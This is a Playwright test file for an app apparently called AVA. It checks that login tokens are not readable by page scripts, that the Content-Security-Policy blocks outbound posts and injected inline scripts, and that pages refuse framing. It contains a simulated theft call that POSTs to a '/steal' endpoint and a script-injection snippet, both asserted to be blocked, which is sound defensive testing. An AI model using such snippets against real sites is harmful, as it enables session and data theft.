"""What a script on AVA's pages could steal or send: no token readable, nothing sent elsewhere, no inline script.

Before, the access and refresh tokens sat in local storage; a recording served as HTML from AVA's origin read them
and sent them away. Now the login is an httpOnly cookie and every page carries a Content-Security-Policy.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect
from sqlmodel import Session

from tests.e2e.members import log_in, make_business, make_member

pytestmark = pytest.mark.e2e


def test_no_token_is_readable_and_nothing_leaves_for_another_host(live_server: str, page: Page, db: Session):
    owner = make_member(db, tenant=make_business(db, name="Cookie Jar Bakery"))
    violations: list[str] = []
    page.on(
        "console",
        lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None,
    )
    log_in(page, live_server, owner.email)

    assert page.evaluate("Object.keys(localStorage).filter((key) => /session|refresh|token/i.test(key))") == []
    assert "ava_sid" not in page.evaluate("document.cookie")
    (cookie,) = [c for c in page.context.cookies() if c["name"] == "ava_sid"]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"

    for path in ("/dashboard", "/calls", "/settings/security", "/assistant"):
        page.goto(live_server + path)
        expect(page).to_have_url(re.compile(re.escape(path) + "/?$"))
        expect(page.get_by_role("link", name="Calls").first).to_be_visible()
        page.wait_for_load_state("networkidle")
    assert violations == [], violations

    # An injected script cannot post what it reads to another host, nor add a script of its own.
    outcome = page.evaluate(
        "fetch('http://127.0.0.1:9/steal', {method: 'POST', body: 'x'}).then(() => 'sent', () => 'blocked')"
    )
    assert outcome == "blocked"
    injected = page.evaluate(
        "new Promise((done) => { const s = document.createElement('script'); s.textContent = 'window.__pwned = 1';"
        " document.body.appendChild(s); setTimeout(() => done(window.__pwned === 1), 200); })"
    )
    assert injected is False

    # Logging out ends the session and removes the cookie.
    page.get_by_role("button", name="Account menu").click()
    page.get_by_role("menuitem", name="Log out").click()
    expect(page).to_have_url(re.compile(r"/login/?$"))
    assert [c for c in page.context.cookies() if c["name"] == "ava_sid"] == []
    page.goto(live_server + "/dashboard")
    expect(page).to_have_url(re.compile(r"/login/?$"))


def test_pages_cannot_be_framed(live_server: str, page: Page):
    response = page.request.get(live_server + "/login")
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
